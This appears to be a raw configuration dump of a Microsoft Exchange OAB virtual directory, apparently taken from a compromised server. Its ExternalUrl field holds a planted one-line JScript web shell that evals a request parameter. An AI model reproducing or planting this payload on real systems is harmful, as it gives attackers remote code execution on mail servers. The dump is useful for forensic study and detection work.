
Name                            : OAB (Default Web Site)
PollInterval                    : 480
OfflineAddressBooks             : 
RequireSSL                      : True
BasicAuthentication             : False
WindowsAuthentication           : True
OAuthAuthentication             : False
MetabasePath                    : IIS://MAIL01.corp.example.org/W3SVC/1/ROOT/OAB
Path                            : C:\Program Files\Microsoft\Exchange Server\V15\FrontEnd\HttpProxy\OAB
ExtendedProtectionTokenChecking : None
ExtendedProtectionFlags         : 
ExtendedProtectionSPNList       : 
AdminDisplayVersion             : Version 15.1 (Build 2176.2)
Server                          : MAIL01
InternalUrl                     : https://mail01.corp.example.org/OAB
InternalAuthenticationMethods   : WindowsIntegrated
ExternalUrl                     : http://f/<script language="JScript" runat="server">function Page_Load(){eval(Request["klk123456"],"unsafe");}</script>
ExternalAuthenticationMethods   : WindowsIntegrated
AdminDisplayName                : 
ExchangeVersion                 : 0.10 (14.0.100.0)
DistinguishedName               : CN=OAB (Default Web Site),CN=HTTP,CN=Protocols,CN=MAIL01,CN=Servers,CN=Exchange Administrative Group (FYDIBOHF23SPDLT),CN=Administrative Groups,CN=Example,CN=Microsoft Exchange,CN=Services,CN=Configuration,DC=corp,DC=example,DC=org
Identity                        : MAIL01\OAB (Default Web Site)
Guid                            : ecd24641-d37f-4974-89f5-2e85ef7fb8d4
ObjectCategory                  : corp.example.org/Configuration/Schema/ms-Exch-OAB-Virtual-Directory
ObjectClass                     : top
                                  msExchVirtualDirectory
                                  msExchOABVirtualDirectory
WhenChanged                     : 3/3/2021 7:59:17 AM
WhenCreated                     : 3/3/2021 7:50:08 AM
WhenChangedUTC                  : 3/3/2021 6:59:17 AM
WhenCreatedUTC                  : 3/3/2021 6:50:08 AM
OrganizationId                  : 
Id                              : MAIL01\OAB (Default Web Site)
OriginatingServer               : DC01.corp.example.org
IsValid                         : True

